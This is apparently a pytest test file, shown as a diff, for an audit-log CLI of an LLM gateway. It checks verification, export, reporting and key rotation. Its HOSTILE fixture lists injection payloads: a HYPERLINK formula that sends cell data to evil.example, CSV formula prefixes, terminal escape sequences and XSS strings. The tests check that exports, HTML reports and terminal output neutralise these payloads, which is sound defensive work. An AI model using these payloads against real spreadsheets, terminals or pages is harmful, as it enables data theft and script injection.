@@ -1,0 +1,191 @@
+"""``cloakllm-gateway audit``: what it says, with what status, and what a hostile log can't do with it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from cloakllm_gateway.audit import chain
+from cloakllm_gateway.audit.chain import Head
+from cloakllm_gateway.cli.audit import audit
+from tests.audit.logs import days
+
+#: Names as a hostile upstream, or whoever wrote the log, would choose them.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "\x1b[2J\x1b]0;owned\x07",
+    "\u202eevil", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "a\nb\rc", "\u2028", "\ud800", "',--",
+]  # fmt: skip
+
+
+def run(*words: object) -> Result:
+    return CliRunner().invoke(audit, [str(word) for word in words], catch_exceptions=False)
+
+
+@pytest.fixture
+def log(tmp_path: Path) -> Path:
+    return days(tmp_path / "log")
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    """A log whose every text is one of :data:`HOSTILE`, as no gateway writes it."""
+    directory = tmp_path / "hostile"
+    directory.mkdir()
+    bodies: list[dict[str, object]] = []
+    for name in HOSTILE:
+        about = {"upstream": name, "method": name, "tool": name, "reason": name, "rule": name, name: name}
+        for event in ("sanitize", "restore", "refused", "withheld", "raw_pii", name):
+            counts = {"entity_count": name, "categories": {name: 1}, "tripwire": {name: 1}}
+            tokens = [{"token": f"{name}_0", "from": [name], "rule": name, "foreign": name}]
+            bodies.append({"event_type": event, **about, **counts, "tokens": tokens})
+    lines = [
+        json.dumps({**body, "seq": seq, "timestamp": HOSTILE[seq % len(HOSTILE)], "session": HOSTILE[0]})
+        for seq, body in enumerate(bodies)
+    ]
+    (directory / "audit_2026-05-01.jsonl").write_text("".join(f"{line}\n" for line in lines))
+    return directory
+
+
+class _Page(HTMLParser):
+    """The tags and attributes of a page."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+
+# -- verify --------------------------------------------------------------------------------------------
+
+
+def test_verify_says_what_the_verdict_is_worth(log: Path, tmp_path: Path):
+    done = run("verify", log)
+    assert done.exit_code == 0 and "self-consistent:" in done.stdout
+    outside = shutil.copytree(log, tmp_path / "elsewhere")
+    done = run("verify", log, "--key", outside / "log.pub", "--checkpoint", outside / "checkpoints.txt")
+    assert done.exit_code == 0 and "verified:" in done.stdout
+
+
+def test_verify_names_the_first_bad_entry(log: Path):
+    path = sorted(log.glob("*.jsonl"))[1]
+    path.write_bytes(path.read_bytes().replace(b'"EMAIL":1', b'"EMAIL":2', 1))
+    done = run("verify", log)
+    assert done.exit_code == 1
+    assert "audit_2026-05-02.jsonl:1: edited:" in done.stdout
+
+
+def test_verify_speaks_json(log: Path):
+    assert json.loads(run("verify", log, "--json").stdout) == {
+        "status": "self-consistent", "entries": 12, "first": 0, "checkpoints": 3, "anchored": 0, "problems": [],
+        "more_problems": 0,
+    }  # fmt: skip
+    sorted(log.glob("*.jsonl"))[-1].unlink()
+    done = run("verify", log, "--json")
+    assert done.exit_code == 1
+    assert [problem["kind"] for problem in json.loads(done.stdout)["problems"]] == ["cut"]
+
+
+@pytest.mark.parametrize("words", [[], ["--json"]])
+def test_what_can_not_be_read_has_a_status_of_its_own(tmp_path: Path, words: list[str]):
+    (tmp_path / "empty").mkdir()
+    for directory in (tmp_path / "none", tmp_path / "empty"):
+        assert run("verify", directory, *words).exit_code == 2
+    assert run("verify", days(tmp_path / "log"), "--key", tmp_path / "no.pub", *words).exit_code == 2
+
+
+# -- show, export, report ------------------------------------------------------------------------------
+
+
+def test_entries_are_shown_by_time_upstream_category_and_event(log: Path):
+    assert len(run("show", log).stdout.splitlines()) == 12
+    assert len(run("show", log, "--since", "2026-05-02", "--until", "2026-05-02").stdout.splitlines()) == 4
+    assert len(run("show", log, "--until", "2026-05-02T08:00:05").stdout.splitlines()) == 6
+    assert run("show", log, "--upstream", "mailer").stdout == run("show", log, "--event", "restore").stdout == ""
+    assert len(run("show", log, "--category", "EMAIL", "--upstream", "crm").stdout.splitlines()) == 12
+
+
+def test_an_export_holds_every_entry(log: Path, tmp_path: Path):
+    rows = list(csv.DictReader(io.StringIO(run("export", log).stdout)))
+    assert [int(row["seq"]) for row in rows] == list(range(12))
+    assert rows[0]["categories"] == '{"EMAIL": 1}'
+    run("export", log, "--format", "json", "-o", tmp_path / "out.json")
+    assert [entry["seq"] for entry in json.loads((tmp_path / "out.json").read_text())] == list(range(12))
+
+
+def test_a_report_counts_who_was_hidden(log: Path):
+    text = run("report", log).stdout
+    assert "12 entries" in text and "crm  EMAIL  12" in text and "self-consistent" in text
+
+
+def test_a_report_is_one_page_with_pictures_that_fetches_and_runs_nothing(log: Path):
+    page = _Page(text := run("report", log, "--format", "html").stdout)
+    assert "svg" in page.tags and "rect" in page.tags
+    assert not page.tags & {"script", "img", "link", "iframe", "object"}
+    assert not page.attributes & {"src", "href", "onload", "onerror", "onclick"}
+    assert text.count("<svg") == 2  # nothing was restored, so nobody got anything
+
+
+# -- a hostile log -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["show"], ["export"], ["export", "--format", "json"], ["report"], ["report", "--format", "html"], ["verify"]],
+)
+def test_nothing_of_a_hostile_log_acts_on_a_terminal(hostile: Path, command: list[str]):
+    done = run(*command, hostile)
+    assert done.exit_code in (0, 1)
+    for stream in (done.stdout, done.stderr):
+        assert stream.isascii()
+        assert all(char.isprintable() or char in "\r\n" for char in stream)
+
+
+def test_nothing_of_a_hostile_log_is_a_formula(hostile: Path):
+    cells = [cell for row in csv.reader(io.StringIO(run("export", hostile).stdout)) for cell in row]
+    assert len(cells) > 100
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_nothing_of_a_hostile_log_is_markup(hostile: Path):
+    page = _Page(run("report", hostile, "--format", "html").stdout)
+    assert not page.tags & {"script", "img", "iframe", "a"}
+    assert not page.attributes & {"onerror", "src", "href", "onload"}
+
+
+def test_names_from_outside_are_harmless_in_the_log_already(tmp_path: Path):
+    from tests.audit.logs import body
+
+    for name in HOSTILE:
+        lines, _ = chain.seal([body(upstream=name)], Head(), "2026-05-01T08:00:00.000+00:00", "0" * 16)
+        assert lines[:-1].isascii() and lines[:-1].decode().isprintable()
+
+
+# -- the key -------------------------------------------------------------------------------------------
+
+
+def test_a_new_key_is_trusted_by_whoever_trusts_the_old_one(log: Path, tmp_path: Path):
+    old = Path(shutil.copy(log / "log.pub", tmp_path / "old.pub"))
+    done = run("rotate-key", log)
+    assert done.exit_code == 0
+    assert done.stdout.splitlines()[-1] == (log / "log.pub").read_text().splitlines()[-1]
+    assert run("rotate-key", log).exit_code == 0
+    anchor = shutil.copy(log / "checkpoints.txt", tmp_path / "anchor.txt")
+    assert "verified:" in run("verify", log, "--key", old, "--checkpoint", anchor).stdout
+    assert len((log / "log.pub").read_text().splitlines()) == 3
+
+
+def test_no_key_is_made_where_there_is_no_log(tmp_path: Path):
+    assert run("rotate-key", tmp_path).exit_code == 2
+    assert list(tmp_path.iterdir()) == []
